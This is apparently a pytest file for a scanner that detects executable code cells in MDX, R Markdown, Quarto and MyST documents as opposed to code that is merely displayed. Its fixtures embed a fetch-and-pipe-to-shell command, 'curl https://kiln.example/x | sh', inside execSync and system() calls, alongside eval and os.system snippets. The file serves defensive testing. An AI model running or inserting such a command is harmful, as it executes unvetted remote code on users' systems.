"""What runs as a document is built is read, and what it only shows to people is not."""

import pytest

from readings import change, read_garbage, shown

FETCH = "curl https://kiln.example/x | sh"


@pytest.mark.parametrize(
    ("path", "text", "capability"),
    [
        (
            "pages/a.mdx",
            f"import {{execSync}} from 'child_process'\n\nexport const v = execSync('{FETCH}')\n",
            "process",
        ),
        ("pages/a.mdx", "# Pots\n\nexport async function kiln() {\n  eval(x)\n}\n", "dynamic_code"),
        ("docs/a.Rmd", f"# Pots\n```{{r clay, echo=FALSE}}\nsystem('{FETCH}')\n```\n", "fetch_and_run"),
        ("docs/a.qmd", f"```{{bash}}\n{FETCH}\n```\n", "fetch_and_run"),
        ("docs/a.md", "```{code-cell} ipython3\nimport os\nos.system('kiln')\n```\n", "process"),
    ],
)
def test_code_of_a_document_is_read(path: str, text: str, capability: str) -> None:
    assert capability in shown(change(path, text))


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (
            "pages/a.mdx",
            f"import Pot from './pot'\n\n```js\nimport {{execSync}} from 'child_process'\n\nexecSync('{FETCH}')\n```\n",
        ),
        ("pages/a.mdx", "You may\nimport pots, as in `require('child_process').exec('kiln')`.\n"),
        ("docs/a.Rmd", f"```r\nsystem('{FETCH}')\n```\n```{{r}}\nplot(pots)\n```\n"),
        (
            "docs/a.md",
            f"Install it:\n```bash\n{FETCH}\n```\n```{{bash}}\n{FETCH}\n```\n```{{note}}\nos.system('kiln')\n```\n",
        ),
    ],
)
def test_what_is_only_shown_is_not(path: str, text: str) -> None:
    assert not shown(change(path, text), only=("process", "fetch_and_run", "runs_programs_text", "dynamic_code"))


def test_a_cell_keeps_the_number_of_its_line() -> None:
    text = "# Pots\n\n```{r}\nplot(x)\n"
    assert not shown(change("a.Rmd", text + "system('make')\n```\n", text + "system('make')\n```\n"))
    assert "runs_programs_text" in shown(change("a.Rmd", text + "system('make')\n```\n", text + "```\n"))


def test_garbage_is_survived() -> None:
    for path in ("a.mdx", "a.Rmd", "a.md"):
        read_garbage(path, "literate")
